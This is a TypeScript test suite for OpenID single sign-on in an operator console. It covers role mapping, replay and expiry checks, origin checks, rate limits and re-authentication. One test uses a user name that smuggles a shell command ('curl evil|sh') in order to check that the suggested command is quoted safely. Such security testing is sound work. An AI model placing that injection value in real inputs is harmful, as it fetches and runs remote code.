/** Operators sign in with the firm's account, at a real OpenID provider. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { systemRandom } from '../../src/app/system/system-random.ts'
import { makeSignInLink } from '../../src/operations/admin/session/sign-in-link.ts'
import { askAsConsole, CONSOLE_ORIGIN, type ConsoleReply } from '../support/console-request.ts'
import { type ProviderUser, TestIdentityProvider } from '../support/identity-provider.ts'
import { SandboxWorld } from '../support/sandbox-world.ts'

const ANNA: ProviderUser = { sub: 'u-1', name: 'anna', groups: ['staff', 'posthorn-admins'] }
const BEN: ProviderUser = { sub: 'u-2', name: 'ben', groups: ['staff'] }
const GUEST: ProviderUser = { sub: 'u-3', name: 'guest', groups: ['guests'] }
const PASSWORD = { password: 'correct horse battery' }

let provider: TestIdentityProvider
let world: SandboxWorld
beforeAll(async () => {
  provider = await TestIdentityProvider.start()
  provider.serve(CONSOLE_ORIGIN)
})
afterAll(() => provider.stop())
beforeEach(async () => {
  world = await startWith('posthorn-admins=owner, staff=support')
})
afterEach(() => world.stop())

function startWith(roles: string): Promise<SandboxWorld> {
  return SandboxWorld.start(undefined, undefined, { 'console-origin': CONSOLE_ORIGIN, ...provider.settings(roles) })
}

function ask(method: string, path: string, body?: object, cookie = ''): Promise<ConsoleReply> {
  return askAsConsole(world, [method, path], { cookie, ...(body === undefined ? {} : { body }) })
}

interface Begun {
  readonly state: string
  readonly verifier: string
  readonly query: string
}

/** What the browser brings back from the provider. */
async function bringBack(user: ProviderUser | null, path = '/session/sso', cookie = ''): Promise<Begun> {
  provider.user = user
  const { body } = await ask('POST', path, {}, cookie)
  const { address, state, verifier } = body
  return { state, verifier, query: await provider.signIn(address) }
}

async function logIn(user: ProviderUser | null): Promise<ConsoleReply> {
  return ask('POST', '/session/sso/answer', { ...(await bringBack(user)), cookie: true })
}

async function prove(user: ProviderUser, cookie: string): Promise<ConsoleReply> {
  const begun = await bringBack(user, '/session/proof/sso', cookie)
  return ask('POST', '/session/proof/sso/answer', begun, cookie)
}

const userOf = async (name: string) => {
  const { body } = await world.askAdmin('GET', `/users?search=${name}`)
  return (body['data'] as readonly Readonly<Record<string, unknown>>[])[0]
}

describe('a first sign-in', () => {
  test('adds the user with the role of the first group that has one', async () => {
    expect((await ask('GET', '/session/sso')).body).toEqual({ name: 'Example Ltd' })
    const { status, body, cookie } = await logIn(ANNA)
    expect({ status, user: body.user, token: body.token }).toEqual({ status: 200, user: 'anna', token: undefined })
    const me = await ask('GET', '/me', undefined, cookie)
    expect(me.body).toMatchObject({ user: 'anna', role: 'owner', sso: true, password: false })
    expect(await userOf('anna')).toMatchObject({ subject: `${provider.issuer} u-1`, state: 'active' })
    const { body: log } = await world.askAdmin('GET', '/audit?most=3')
    expect(JSON.stringify(log)).toContain('anna')
    expect(JSON.stringify([log, world.log.lines])).not.toContain(body.token ?? cookie.replace(/^.*=/, ''))
  })

  test.each([
    ['without a group that has a role', GUEST, 'none of your groups has a role here'],
    ['that was given up', null, 'given up at the provider'],
  ])('%s adds nothing', async (_case, user, reason) => {
    const { status, body } = await logIn(user)
    expect({ status: status >= 400, detail: body.detail }).toEqual({
      status: true,
      detail: expect.stringContaining(reason),
    })
    expect(await userOf('guest')).toBeUndefined()
  })

  test('never takes over a user of that name, until an owner says that it is the same', async () => {
    await world.askAdmin('POST', '/users', { body: { user: 'ben', role: 'finance' } })
    const refused = await logIn(BEN)
    expect(refused.status).toBe(401)
    const subject = `${provider.issuer} u-2`
    expect(refused.body.detail).toContain(`posthorn user set --user='ben' --subject '${subject}'`)
    const owner = await logIn(ANNA)
    expect((await ask('PATCH', '/users/ben', { subject }, owner.cookie)).status).toBe(200)
    expect((await logIn(BEN)).status).toBe(200)
    expect(await userOf('ben')).toMatchObject({ role: 'support', subject })
  })

  test('belongs to one operator', async () => {
    await logIn(BEN)
    await world.askAdmin('POST', '/users', { body: { user: 'carl', role: 'finance' } })
    await world.askAdmin('POST', '/users', { body: { user: 'dora', role: 'client-admin', account: 1 } })
    const { cookie } = await logIn(ANNA)
    const link = (user: string, sub: string) =>
      ask('PATCH', `/users/${user}`, { subject: `${provider.issuer} ${sub}` }, cookie)
    expect((await link('carl', 'u-2')).body.detail).toBe('ben signs in with this account')
    expect((await link('dora@1', 'u-5')).body.detail).toContain('users of accounts do not')
  })

  test('has a name by the rule for all users, and the command for a name that is taken is safe in a shell', async () => {
    for (const name of ['a\u200bb', '..', 'x'.repeat(101), 'anna@7']) {
      const { status } = await logIn({ sub: `n-${name.length}`, name, groups: ['staff'] })
      expect(status).toBe(401)
    }
    expect((await logIn({ sub: 'n-1', name: 'Jürgen Öztürk', groups: ['staff'] })).body.user).toBe('Jürgen Öztürk')
    const name = "it's; curl evil|sh #"
    await world.askAdmin('POST', '/users', { body: { user: name, role: 'finance' } })
    expect((await logIn({ sub: 'n-2', name, groups: ['staff'] })).body.detail).toContain(
      "posthorn user set --user='it'\\''s; curl evil|sh #' --subject '",
    )
  })

  test('of two users with one name admits the first alone', async () => {
    await logIn(BEN)
    const { status, body } = await logIn({ ...BEN, sub: 'u-9' })
    expect([status, body.detail]).toEqual([401, expect.stringContaining('there is a user ben already')])
  })
})

describe('a later sign-in', () => {
  test('gives the role that the groups have now, and ends with the last of them', async () => {
    await logIn(ANNA)
    await logIn({ ...ANNA, groups: ['staff'] })
    expect(await userOf('anna')).toMatchObject({ role: 'support' })
    expect((await logIn({ ...ANNA, groups: [] })).status).toBe(401)
  })

  test('is refused to a user who is disabled here', async () => {
    await logIn(BEN)
    await world.askAdmin('PATCH', '/users/ben', { body: { state: 'disabled' } })
    expect(await logIn(BEN)).toMatchObject({ status: 401, body: { detail: 'user ben is disabled' } })
  })

  test('knows the user after a restart, by another name there too', async () => {
    await logIn(BEN)
    await world.stopGateway()
    await world.startGateway()
    expect((await logIn({ ...BEN, name: 'benjamin' })).body.user).toBe('ben')
  })
})

describe('an answer', () => {
  test('counts once, and with its own secret alone', async () => {
    const begun = await bringBack(BEN)
    const other = await bringBack(BEN)
    const swapped = await ask('POST', '/session/sso/answer', { ...begun, verifier: other.verifier })
    expect(swapped.status).toBe(422)
    expect((await ask('POST', '/session/sso/answer', begun)).status).toBe(401)
    expect((await ask('POST', '/session/sso/answer', { ...other, query: begun.query })).status).toBe(422)
  })

  test('is of no use after five minutes, nor for a proof', async () => {
    const late = await bringBack(BEN)
    world.clock.advance(301_000)
    expect((await ask('POST', '/session/sso/answer', late)).status).toBe(401)
    const { cookie } = await logIn(BEN)
    expect((await ask('POST', '/session/proof/sso/answer', await bringBack(BEN), cookie)).status).toBe(422)
  })

  test('is taken from a page of the console alone', async () => {
    const { address, state, verifier } = (await ask('POST', '/session/sso', {})).body
    provider.user = BEN
    const answer = { state, verifier, query: await provider.signIn(address) }
    const foreign = { origin: 'https://elsewhere.example', 'sec-fetch-site': 'cross-site' }
    const body = { ...answer, cookie: true }
    expect((await askAsConsole(world, ['POST', '/session/sso/answer'], { body }, foreign)).status).toBe(403)
  })
})

test('sign-ins that do not end lock no other way in, and are few a second', async () => {
  const statuses: number[] = []
  for (let count = 0; count < 40; count += 1) {
    statuses.push((await ask('POST', '/session/sso', {})).status)
    world.clock.advance(count < 20 ? 1_000 : 0)
  }
  expect(statuses.slice(0, 30)).toEqual(Array(30).fill(200))
  expect(statuses.slice(30)).toEqual(Array(10).fill(429))
  const { store } = world.gateway
  const { path } = await makeSignInLink({ store, clock: world.clock, random: systemRandom }, 'sandbox')
  expect((await ask('POST', '/session/link', { token: path.replace(/^.*=/, '') })).status).toBe(200)
})

test('a token connects no user with an account of the firm', async () => {
  await world.askAdmin('POST', '/users', { body: { user: 'boss', role: 'owner' } })
  const { body } = await world.askAdmin('POST', '/users/sandbox/tokens', { body: { label: 'script' } })
  const change = { body: { subject: `${provider.issuer} thief` }, token: String(body['token']) }
  const refused = await world.askAdmin('PATCH', '/users/boss', change)
  expect(refused.body['detail']).toContain('a token does not prove who uses it')
  expect(await userOf('boss')).toMatchObject({ subject: null })
})

describe('who signs in so', () => {
  test('proves identity by signing in anew, as the same user', async () => {
    const { cookie } = await logIn(ANNA)
    world.clock.advance(601_000)
    const topUp = () => ask('POST', '/accounts/1/top-ups', { amount: 1 }, cookie)
    expect((await topUp()).status).toBe(401)
    expect((await prove(BEN, cookie)).body.detail).toBe('this is the account of another user')
    expect((await topUp()).status).toBe(401)
    expect((await prove(ANNA, cookie)).status).toBe(200)
    expect((await topUp()).status).toBe(200)
  })

  test('has no other way in but the link of an owner', async () => {
    const { cookie } = await logIn(BEN)
    const refused = "you sign in with the firm's account, and with nothing else"
    expect((await ask('PUT', '/me/password', PASSWORD, cookie)).body.detail).toBe(refused)
    expect((await ask('POST', '/me/passkeys/challenge', {}, cookie)).body.detail).toBe(refused)
    const { store } = world.gateway
    const { path } = await makeSignInLink({ store, clock: world.clock, random: systemRandom }, 'ben')
    expect((await ask('POST', '/session/link', { token: path.replace(/^.*=/, '') })).status).toBe(200)
  })

  test('is led to the sign-out of the provider', async () => {
    const { cookie } = await logIn(BEN)
    const { body } = await ask('POST', '/session/sso/end', {}, cookie)
    const address = new URL(body.address)
    expect(address.origin).toBe(provider.issuer)
    expect(address.searchParams.get('post_logout_redirect_uri')).toBe(`${CONSOLE_ORIGIN}/console/login`)
  })
})

test('a provider that is away is said', async () => {
  const away = await TestIdentityProvider.start()
  const settings = { 'console-origin': CONSOLE_ORIGIN, ...away.settings('*=auditor') }
  await away.stop()
  await using lonely = await SandboxWorld.start(undefined, undefined, settings)
  const { status, body } = await askAsConsole(lonely, ['POST', '/session/sso'], { body: {} })
  expect([status, body.detail]).toEqual([422, expect.stringContaining('the provider gave no valid answer')])
})

test('an installation without a provider says so', async () => {
  await using plain = await SandboxWorld.start(undefined, undefined, { 'console-origin': CONSOLE_ORIGIN })
  expect((await askAsConsole(plain, ['GET', '/session/sso'], {})).body).toEqual({ name: null })
  const { body } = await askAsConsole(plain, ['POST', '/session/sso'], { body: {} })
  expect(body.detail).toBe('POSTHORN_SSO_ISSUER is not set')
})
